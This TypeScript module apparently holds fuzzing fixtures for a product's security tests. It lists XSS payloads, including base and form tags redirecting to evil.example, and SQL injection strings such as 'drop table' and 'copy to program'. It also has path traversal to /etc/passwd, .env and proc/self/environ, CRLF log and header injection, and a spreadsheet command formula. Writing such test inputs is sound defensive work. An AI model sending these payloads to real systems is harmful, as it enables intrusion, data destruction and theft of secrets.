/**
 * What hostile people send, by what it is aimed at. Written for this product: each line is a family's own representative,
 * combined by the tests; no list from elsewhere is kept here.
 */
const XSS_HEADS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--!>',
  ']]>',
  '`',
  '\\"',
  '%22%3E',
]
const XSS_BODIES = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg/onload="window.__xss=1">',
  '<body onpageshow=window.__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="java\tscript:window.__xss=1">x</a>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<input autofocus onfocus=window.__xss=1>',
  '<style>@import"javascript:window.__xss=1"</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>go',
  '<object data="data:text/html,<script>parent.__xss=1</script>">',
  '<template><script>window.__xss=1</script></template>',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1}',
  '#{window.__xss=1}',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<script\u0000>window.__xss=1</script>',
  '＜script＞window.__xss=1＜/script＞',
  '<img src="x` `<script>window.__xss=1</script>"` `>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
]
export const xss: readonly string[] = XSS_HEADS.flatMap((head) => XSS_BODIES.map((body) => head + body))

const QUOTES = ["'", '"', '`', "\\'", '’', '%27', "''", ')', "')"]
const SQL_BODIES = [
  ' or 1=1--',
  ' or true #',
  ' union select null,null,null--',
  '; drop table audit;--',
  '; select pg_sleep(5)--',
  ' and (select count(*) from session) > 0--',
  ' and 1=cast((select version()) as int)--',
  '||(select current_user)||',
  '/**/or/**/1=1',
  " or 'a' like 'a%'",
  ' order by 99--',
  ' limit 1 offset 1--',
  '; copy (select 1) to program $$id$$--',
  ' returning *--',
]
export const sql: readonly string[] = QUOTES.flatMap((quote) => SQL_BODIES.map((body) => `x${quote}${body}`)).concat([
  '%',
  '_',
  '\\',
  '$1',
  '$$',
  ':1',
  '?',
  '{1,2}',
  '{"a":1}',
  'null',
  'NaN',
  'infinity',
  "E'\\x27'",
  'U&"d!0061t!+000061"',
])

/** With halves of characters replaced, as a browser sends them. */
export const sendable = (text: string): string => Buffer.from(text).toString()

/** Lines, terminals, directions, halves of characters: what breaks logs, headers and eyes. */
export const characters: readonly string[] = [
  'a\r\nset-cookie: x=1',
  'a\n{"level":60,"msg":"forged"}',
  '\u001b[31mred\u001b[0m',
  '\u202etxt.exe',
  '\u2066\u2069\u200b\ufeff',
  'e\u0301\u0301\u0301',
  '\ud800',
  '\udc00x',
  '🏳️‍🌈👨‍👩‍👧‍👦',
  '𠮷野家',
  '\u0000',
  'a\u0000b',
  '\u0008\u000b\u007f',
  'Ｆｕｌｌ　ｗｉｄｔｈ',
  'İıſK',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '../../etc/passwd',
  '=cmd|/c calc!A1',
  '９９９',
  'x'.repeat(5000),
  '字'.repeat(3000),
]

const UPS = [
  '../',
  '..\\',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '%252e%252e%252f',
  '..;/',
  '....//',
  '.%00./',
  '%c0%ae%c0%ae/',
  '%uff0e%uff0e/',
  '..%ef%bc%8f',
]
const TARGETS = [
  'etc/passwd',
  'package.json',
  'server/main.js',
  '.env',
  '.git/config',
  'windows/win.ini',
  'dist/server/main.js',
  'proc/self/environ',
]
export const paths: readonly string[] = UPS.flatMap((up) =>
  TARGETS.flatMap((target) => [1, 3, 8].map((n) => `/${up.repeat(n)}${target}`)),
).concat(
  TARGETS.flatMap((target) => [
    `//${target}`,
    `/assets/${target}`,
    `/assets/..%2f..%2f${target}`,
    `/${target}%00.html`,
    `/file:///${target}`,
    `/%2f%2f${target}`,
    `/\\${target}`,
    `/${target}.map`,
    `/${target}~`,
    `/${target}.bak`,
  ]),
)
